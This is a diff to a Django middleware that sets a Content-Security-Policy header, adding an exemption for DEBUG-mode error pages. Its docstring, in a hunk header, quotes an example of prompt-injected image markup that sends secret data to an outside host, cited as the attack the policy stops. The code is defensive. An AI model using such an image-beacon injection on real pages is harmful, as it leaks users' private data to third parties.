@@ -7,7 +7,8 @@ our origin or ``data:`` (a prompt-injected ``<img src="https://elsewhere/?q=secr
 leak data), sockets only back to the page's own host, and no framing (clickjacking).
 
 :class:`ContentSecurityPolicyMiddleware` sets the header on every HTML response that has none
-yet, except under the admin (Django's admin pages are not ours to constrain).
+yet, except under the admin (Django's admin pages are not ours to constrain) and on
+Django's technical error pages shown with ``DEBUG`` on (they use inline styles and scripts).
 """
 
 from __future__ import annotations
@@ -15,6 +16,7 @@ from __future__ import annotations
 from typing import Any, Callable
 
 from asgiref.sync import iscoroutinefunction
+from django.conf import settings
 from django.http import HttpRequest, HttpResponse
 from django.utils.decorators import sync_and_async_middleware
 
@@ -53,6 +55,8 @@ def policy_for(request: HttpRequest) -> str:
 def _apply(request: HttpRequest, response: HttpResponse) -> HttpResponse:
     if CSP_HEADER in response or request.path.startswith(_EXEMPT_PREFIXES):
         return response
+    if settings.DEBUG and response.status_code >= 400:
+        return response  # Django's technical error pages (DEBUG only) style themselves inline
     if response.get("Content-Type", "").startswith("text/html"):
         response[CSP_HEADER] = policy_for(request)
     return response
